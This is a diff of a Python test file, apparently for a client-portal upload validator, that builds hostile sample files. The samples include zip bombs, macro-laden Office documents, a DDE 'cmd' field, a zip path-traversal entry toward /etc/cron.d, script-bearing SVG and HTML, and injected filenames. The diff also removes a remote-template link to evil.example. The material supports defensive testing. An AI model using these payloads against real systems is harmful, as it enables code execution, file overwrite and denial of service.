@@ -2,11 +2,12 @@
 
 import io
 import struct
-import zipfile
 import zlib
 
 import pikepdf
 from PIL import Image
+
+from clienten.tests.kantoorbestanden import MS, archief, docx, odt, rel, xlsx
 
 EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + b"!$H+H*"
 
@@ -60,34 +61,9 @@ def reuzefoto(breed=50_000, hoog=50_000):
     return b"\x89PNG\r\n\x1a\n" + blok(b"IHDR", kop) + blok(b"IDAT", zlib.compress(b"\0" * 999)) + blok(b"IEND", b"")
 
 
-def archief(delen, **opties):
-    uit = io.BytesIO()
-    with zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED, **opties) as zip_:
-        for naam, inhoud in delen.items():
-            zip_.writestr(naam, inhoud)
-    return uit.getvalue()
-
-
-DOCX = {
-    "[Content_Types].xml": b"<Types/>",
-    "_rels/.rels": b"<Relationships/>",
-    "word/document.xml": b"<w:document><w:t>Beste</w:t></w:document>",
-}
-XLSX = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
-ODT = {
-    "mimetype": b"application/vnd.oasis.opendocument.text",
-    "content.xml": b"<office:document-content/>",
-    "META-INF/manifest.xml": b"<manifest:manifest/>",
-}
-SJABLOON = (
-    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" '
-    b'TargetMode="External"/></Relationships>'
-)
-
-
 def liegende_zip():
     """Says it unpacks to a few bytes and unpacks to 80 MB."""
-    ruw = bytearray(archief({**DOCX, "word/media/x.bin": b"\0" * 80_000_000}))
+    ruw = bytearray(docx(delen={"word/media/x.bin": b"\0" * 80_000_000}))
     echt = struct.pack("<I", 80_000_000)
     while (plek := ruw.find(echt)) >= 0:
         ruw[plek : plek + 4] = struct.pack("<I", 10)
@@ -95,12 +71,14 @@ def liegende_zip():
 
 
 def versleutelde_zip():
-    ruw = bytearray(archief(DOCX))
+    ruw = bytearray(docx())
     plek = ruw.find(b"PK\x01\x02")
     ruw[plek + 8] |= 1
     return bytes(ruw)
 
 
+VBA = {"word/vbaProject.bin": b"\xd0\xcf"}
+VBATYPE = {"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"}
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 HTML = b"<!doctype html><script>fetch('/clienten/')</script>"
 GOED = {
@@ -108,11 +86,15 @@ GOED = {
     "foto.jpg": foto("JPEG"),
     "foto.JPEG": foto("JPEG"),
     "foto.png": foto(),
-    "brief.docx": archief(DOCX),
-    "lijst.xlsx": archief(XLSX),
-    "brief.odt": archief(ODT),
+    "brief.docx": docx(),
+    "lijst.xlsx": xlsx(),
+    "brief.odt": odt(),
     "nota.txt": "Een gewone nota, met é en €.".encode(),
     "attest v2.1 (kopie).pdf": pdf(),
+    "mail jan@firma.com.pdf": pdf(),
+    "alleen rechten.pdf": pdf(encryption=pikepdf.Encryption(user="", owner="b")),
+    "regel ervoor.pdf": b"\r\n" + pdf(),
+    "opmerking erna.pdf": pdf() + b"\n% gemaakt door een scanner\n",
 }
 VIJANDIG = [
     ("leeg.pdf", b"", "leeg"),
@@ -138,30 +120,30 @@ VIJANDIG = [
     ("bijlage.pdf", pdf(ingesloten), "ander bestand"),
     ("xfa.pdf", pdf(formulier), "formulier"),
     ("slot.pdf", pdf(encryption=pikepdf.Encryption(user="a", owner="b")), "wachtwoord"),
-    ("slot2.pdf", pdf(encryption=pikepdf.Encryption(user="", owner="b")), "wachtwoord"),
     ("kapot.pdf", pdf()[:200] + b"%%EOF", "beschadigd"),
     ("onzin.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"%%EOF", "beschadigd"),
     ("reus.png", reuzefoto(), "te groot"),
     ("breed.png", reuzefoto(8_000, 7_999), "te groot"),
     ("kapot.jpg", foto("JPEG", (400, 400))[:300], "beschadigd"),
     ("programma.jpg", b"MZ\x90\x00" + b"\0" * 400, "geen jpg"),
-    ("macro.docx", archief({**DOCX, "word/vbaProject.bin": b"\xd0\xcf"}), "macro"),
-    ("macro.xlsx", archief({**XLSX, "xl/macrosheets/sheet1.xml": b"<x/>"}), "macro"),
-    ("macro2.docx", archief({**DOCX, "[Content_Types].xml": b"ms-word.document.macroEnabled.main+xml"}), "macro"),
-    ("macro.odt", archief({**ODT, "Basic/Standard/Module1.xml": b"Sub Main"}), "macro"),
-    ("macro.docm", archief(DOCX), "bewaren we niet"),
-    ("ole.docx", archief({**DOCX, "word/embeddings/oleObject1.bin": b"x"}), "ander bestand"),
-    ("sjabloon.docx", archief({**DOCX, "word/_rels/settings.xml.rels": SJABLOON}), "ander adres"),
-    ("dde.docx", archief({**DOCX, "word/document.xml": b"<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"}), "programma"),
-    ("bom.docx", archief({**DOCX, "word/media/x.bin": b"\0" * 80_000_000}), "te groot"),
+    ("macro.docx", docx(links=[rel("vbaProject", "vbaProject.bin", basis=MS)], delen=VBA, soorten=VBATYPE), "macro"),
+    ("macro.xlsx", xlsx(links=[rel("xlMacrosheet", "m.xml", basis=MS)], delen={"xl/m.xml": "<x/>"}), "macro"),
+    (
+        "macro2.docx",
+        docx(soorten={"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
+        "macro",
+    ),
+    ("macro.odt", odt(delen={"Basic/Standard/Module1.xml": b"Sub Main"}), "macro"),
+    ("macro.docm", docx(), "bewaren we niet"),
+    ("bom.docx", docx(delen={"word/media/x.bin": b"\0" * 80_000_000}), "te groot"),
     ("liegt.docx", liegende_zip(), ""),
-    ("veel.docx", archief({**DOCX, **{f"x/{n}": b"" for n in range(3_000)}}), "te groot"),
-    ("omhoog.docx", archief({**DOCX, "../../etc/cron.d/x": b"x"}), "gewoon programma"),
+    ("veel.docx", docx(delen={f"x/{n}": b"" for n in range(3_000)}), "te groot"),
+    ("omhoog.docx", docx(delen={"../../etc/cron.d/x": b"x"}), "gewoon programma"),
     ("slot.docx", versleutelde_zip(), "wachtwoord"),
     ("oud.docx", b"\xd0\xcf\x11\xe0" + b"\0" * 600, "wachtwoord"),
     ("oud.doc", b"\xd0\xcf\x11\xe0" + b"\0" * 600, "bewaren we niet"),
     ("zip.xlsx", archief({"hallo.txt": b"x"}), "geen Excel"),
-    ("kapot.docx", archief(DOCX)[:-30], "beschadigd"),
+    ("kapot.docx", docx()[:-30], "beschadigd"),
     ("cv.exe.pdf", pdf(), "twee extensies"),
     ("cv.pdf.exe", b"MZ", "bewaren we niet"),
     ("cv.js.jpg", foto("JPEG"), "twee extensies"),
@@ -172,6 +154,6 @@ VIJANDIG = [
     ("cv\r\nSet-Cookie: x.pdf", pdf(), "tekens"),
     ("cv\u202efdp.pdf", pdf(), "tekens"),
     ("virus.txt", EICAR, "virus"),
-    ("virus.docx", archief({**DOCX, "word/media/x.txt": EICAR}), "virus"),
+    ("virus.docx", docx(delen={"word/media/x.txt": EICAR}), "virus"),
     ("binair.txt", bytes(range(32)), "geen gewone tekst"),
 ]
